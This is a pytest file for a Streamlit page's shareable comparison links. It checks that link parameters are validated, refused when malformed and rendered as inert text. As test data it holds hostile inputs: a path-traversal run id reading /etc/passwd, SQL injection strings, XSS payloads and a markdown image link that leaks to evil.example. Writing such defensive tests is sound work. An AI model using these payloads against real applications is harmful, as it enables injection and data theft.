"""Share a comparison: its permalink (question, modes, workspace, run id in the URL) opens the stored
answers from the query log with "Run again"; a link whose run is gone or that was edited still
fills in its question and modes and says so; every value of a link is checked (anyone may write
one), refused with a message when over-long or malformed, and never drawn as markup."""

from __future__ import annotations

import pytest
from streamlit.testing.v1 import AppTest

from ragtune.config import PROJECT_ROOT, load_settings
from ragtune.lab import MAX_QUESTION_CHARS
from ragtune.lab_share import MAX_MODES_PARAM, LabLink, read_link, stored_comparison
from ragtune.modes import BUILTIN_MODES, ModeStore
from ragtune.store import QueryLog
from tests.test_lab_badges import grounded_answer

KNOWN = [m.id for m in BUILTIN_MODES]
PAGE = str(PROJECT_ROOT / "app_pages" / "lab.py")
QUESTION = "How much is the Poolpilot P1?"


def test_a_link_round_trips_through_its_parameters():
    link = LabLink(question="Price of the P1 & M4?", modes=["rag", "rag+lora"], workspace="team",
                   run="0123456789ab")
    assert read_link(link.query_params(), known_modes=KNOWN, workspaces=["team"]).link == link


@pytest.mark.parametrize(("params", "problem"), [
    ({"q": "x" * (MAX_QUESTION_CHARS + 1)}, "over the limit of 2,000"),
    ({"modes": "rag," * MAX_MODES_PARAM}, "list of modes"),
    ({"workspace": "elsewhere"}, "workspace 'elsewhere' does not exist"),
    ({"workspace": "w" * 5000}, "does not exist"),
    ({"run": "../../etc/passwd"}, "run id is not one the Lab makes"),
    ({"run": "0123456789AB; DROP TABLE queries"}, "run id"),
])
def test_a_bad_link_value_is_refused_with_a_message_and_dropped(params, problem):
    reading = read_link(params, known_modes=KNOWN, workspaces=["team"])
    assert len(reading.problems) == 1 and problem in reading.problems[0]
    assert len(reading.problems[0]) < 200  # the value is named, never dumped
    assert reading.link == LabLink()


def test_unknown_modes_are_left_out_and_named():
    reading = read_link({"modes": "rag,telepathy,RAG+LORA"}, known_modes=KNOWN, workspaces=[])
    assert reading.link.modes == ["rag", "rag+lora"] and reading.unknown_modes == ["telepathy"]


def test_a_workspace_the_user_may_not_read_is_refused_with_the_cores_reason_and_dropped():
    asked: list[str] = []

    def refusal(name: str) -> str | None:
        asked.append(name)
        return f"ana may not read workspace {name!r}" if name == "secret" else None

    reading = read_link({"q": "Price?", "workspace": "secret"}, known_modes=KNOWN, workspaces=["team"],
                        refusal=refusal)
    assert reading.refused == "ana may not read workspace 'secret'" and not reading.problems
    assert reading.link.workspace is None and reading.link.question == "Price?"
    gone = read_link({"workspace": "gone"}, known_modes=KNOWN, workspaces=["team"], refusal=refusal)
    assert not gone.refused and "does not exist here" in gone.problems[0]
    huge = read_link({"workspace": "x" * 5000}, known_modes=KNOWN, workspaces=["team"], refusal=refusal)
    assert asked == ["secret", "gone"] and "does not exist here" in huge.problems[0]  # never asked about
    assert read_link({"workspace": "team"}, known_modes=KNOWN, workspaces=["team"], refusal=refusal).refused == ""


def _log_comparison(log: QueryLog, run_id: str, modes: list[str], question: str = QUESTION) -> None:
    for mode_id in modes:
        answer = grounded_answer('{"answer": "$1,249", "citations": [], "confidence": "high"}', "ok")
        mode = next(m for m in BUILTIN_MODES if m.id == mode_id)
        log.add(answer.model_copy(update={"mode": mode, "query": question, "workspace": "team"}),
                run_id=run_id)


def test_the_stored_answers_are_shown_gone_or_edited(data_dir):
    log = QueryLog(load_settings().query_log_file)
    _log_comparison(log, "0123456789ab", ["base", "rag"])
    modes = ModeStore(load_settings().modes_file)
    link = LabLink(question=QUESTION, modes=["base", "rag", "lora"], workspace="team", run="0123456789ab")
    stored = stored_comparison(log, link, modes.resolve(link.modes))
    assert stored is not None and stored.status == "shown" and stored.comparison is not None
    base, rag, lora = stored.comparison.results
    assert base.mode_id == "base" and rag.mode_id == "rag"  # logged answers, read back
    assert "No stored answer" in lora.error  # it could not answer: nothing was logged for it
    for edited in (link.model_copy(update={"question": "How much is the Mowbot?"}),
                   link.model_copy(update={"workspace": "other"}),
                   link.model_copy(update={"modes": ["rag", "base"]})):
        assert stored_comparison(log, edited, modes.resolve(edited.modes)).status == "edited"
    log.clear()
    assert stored_comparison(log, link, modes.resolve(link.modes)).status == "gone"
    assert stored_comparison(log, LabLink(question=QUESTION), []) is None  # no run: nothing to look up


def test_a_link_that_finds_none_of_a_users_own_answers_says_they_may_be_another_users(data_dir):
    """With sign-in, a user's log holds only their own answers: a colleague's shared link finds none of them,
    and "gone" would be wrong; the whole log (an admin's, or without sign-in) finds none only when they are."""
    log = QueryLog(load_settings().query_log_file)
    link = LabLink(question=QUESTION, modes=["rag"], workspace="team", run="0123456789ab")
    theirs = stored_comparison(log, link, [], own_only=True)
    assert theirs is not None and theirs.status == "gone" and theirs.comparison is None
    assert "it may be another user's comparison" in theirs.message and "never existed" not in theirs.message
    whole = stored_comparison(log, link, [])
    assert whole is not None and "are gone" in whole.message and "another user" not in whole.message


# -- the page --------------------------------------------------------------------------------

@pytest.fixture()
def env(team_workspace):
    return team_workspace(max_tokens=8)


def page(**query) -> AppTest:
    at = AppTest.from_file(PAGE, default_timeout=180)
    for name, value in query.items():
        at.query_params[name] = value
    return at.run()


def test_a_comparison_becomes_a_permalink_that_opens_its_stored_answers_and_runs_again(env):
    at = page()
    at.text_area(key="lab_question").set_value(QUESTION)
    at.multiselect(key="lab_modes").set_value(["base", "rag"])
    at.selectbox(key="lab_workspace").set_value("team")
    at = at.button(key="lab_run").click().run()
    assert not at.exception, [e.value for e in at.exception]
    log = QueryLog(load_settings().query_log_file)
    [run_id] = {e.run_id for e in log.entries()}
    params = {k: at.query_params[k] for k in ("q", "modes", "workspace", "run")}
    assert params == {"q": QUESTION, "modes": "base,rag", "workspace": "team", "run": run_id}
    assert any(f"run={run_id}" in c.value for c in at.code)  # the link, shown to copy

    opened = page(**params)  # another browser opens the link
    assert not opened.exception, [e.value for e in opened.exception]
    assert opened.text_area(key="lab_question").value == QUESTION
    assert opened.multiselect(key="lab_modes").value == ["base", "rag"]
    assert any("stored answers of this comparison" in i.value for i in opened.info)
    assert [m.label for m in opened.metric].count("Total") == 2  # the two stored answer cards
    assert log.count() == 2  # opening ran nothing
    again = opened.button(key="lab_link_notes_again").click().run()
    assert not again.exception, [e.value for e in again.exception]
    runs = {e.run_id for e in log.entries()}
    assert len(runs) == 2 and again.query_params["run"] in runs - {run_id}


def test_a_link_whose_run_is_gone_fills_in_the_question_and_says_so(env):
    at = page(q=QUESTION, modes="rag", workspace="team", run="0123456789ab")
    assert not at.exception
    assert at.text_area(key="lab_question").value == QUESTION and at.multiselect(key="lab_modes").value == ["rag"]
    assert any("are gone" in w.value for w in at.warning)
    assert [m.label for m in at.metric].count("Total") == 0


def test_a_hostile_link_opens_inert_with_its_problems_named(env):
    hostile = "![x](http://evil.example/?leak=1) <img src=x onerror=alert(1)>"
    at = page(q=hostile, modes=f"rag,{hostile}", workspace="<script>alert(1)</script>", run="'; DROP TABLE")
    assert not at.exception, [e.value for e in at.exception]
    assert at.text_area(key="lab_question").value == hostile  # a widget's value: text, never markup
    warnings = " ".join(w.value for w in at.warning)
    assert "workspace" in warnings and "run id" in warnings and "unknown modes" in warnings
    assert "![" not in warnings and "<img" not in warnings and "<script" not in warnings
    assert QueryLog(load_settings().query_log_file).count() == 0


def test_an_over_long_link_question_is_refused_not_truncated(env):
    at = page(q="x" * (MAX_QUESTION_CHARS + 5), modes="rag")
    assert not at.exception
    assert at.text_area(key="lab_question").value == ""
    assert any("2,005 characters" in w.value for w in at.warning)
